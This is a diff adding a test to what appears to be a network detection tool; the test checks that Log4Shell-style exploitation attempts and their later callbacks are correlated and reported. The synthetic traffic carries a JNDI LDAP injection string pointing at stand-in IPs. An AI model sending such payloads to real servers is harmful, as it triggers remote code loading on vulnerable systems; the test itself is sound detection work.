@@ -8,7 +8,7 @@ import json
 import os
 
 import flows
-from harness import Skip, TOP, demand, expect, expect_refused, main, of_type, replay
+from harness import Skip, TOP, demand, expect, expect_refused, figure, main, of_type, replay
 
 MINUTE_US = 60 * 1000000
 WRITE = ("--set", "volume.write=yes")
@@ -267,7 +267,37 @@ def schema(lab):
         demand(not wrong, f"{wrong[:1]} in {event}")
 
 
+def stories(lab):
+    """Call-backs are bounded in number and time, and what goes early is counted; what followed is
+    told at the end, and is the same with workers."""
+    attempts = [flows.exchange(("198.51.100.7", 40000 + i), flows.START_US + i * 100000,
+                               agent=b"$" + b"{jndi:ldap://203.0.113.%d:1389/x}" % (i + 1))
+                for i in range(3)]
+    calls = [flows.Talk(("192.0.2.10", 41000 + i), (f"203.0.113.{i + 1}", 1389),
+                        flows.START_US + 10150000 + i * 10000).open().close() for i in range(3)]
+    lab.write("g", flows.pcap([f for talk in attempts + calls for f in talk.frames]))
+    for args, hosts, evicted in (([], "123", 0), (["--set", "story.callbacks=2"], "23", 1),
+                                 (["--set", "story.callbacks=0"], "", 0),
+                                 (["--set", "story.remember=10 s"], "3", 0)):
+        before = None
+        for workers in ("0", "4"):
+            ended = lab.run("-r", "g", "-o", "out.json", "--workers", workers, *args)
+            expect(ended, 0)
+            events = lab.events("out.json")
+            os.remove(lab.path("out.json"))
+            told = [event for event in of_type(events, "alert")
+                    if event["alert"]["signature_id"] == 9000202]
+            called = [event["alert"]["context"]["jndi"]["callback"]["ip"] for event in told]
+            demand(called == [f"203.0.113.{host}" for host in hosts], f"{args}: {called}")
+            demand(figure(events, "story_evicted") == evicted, f"{args}: evicted")
+            line = f"Attempts that something followed: {len(hosts)} called_back."
+            demand((line in ended.lines) == bool(hosts), ended.told())
+            demand(before in (None, told), f"{args}: otherwise with workers")
+            before = told
+
+
 TESTS = [
+    ("stories", stories),
     ("roll-ups of all captures add up", all_captures),
     ("what a roll-up tells", what_is_told),
     ("many clients", clients),
